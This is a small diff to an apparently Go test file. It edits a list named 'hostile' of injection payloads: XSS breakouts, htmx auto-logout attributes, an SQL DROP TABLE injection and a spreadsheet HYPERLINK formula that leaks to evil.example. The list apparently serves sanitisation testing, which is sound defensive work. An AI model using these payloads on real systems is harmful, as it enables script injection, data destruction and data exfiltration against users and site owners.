@@ -32,7 +32,6 @@ var hostile = []string{
 	`' onmouseover='alert(1)`,
 	`javascript:alert(1)`,
 	`hx-get="/logout" hx-trigger="load"`,
-	`data-hx-get="/logout" data-hx-trigger="load"`,
 	`'; DROP TABLE owners; --`,
 	`=HYPERLINK("https://evil.example/?leak","click")`,
 	`</textarea><svg onload=alert(1)>`,
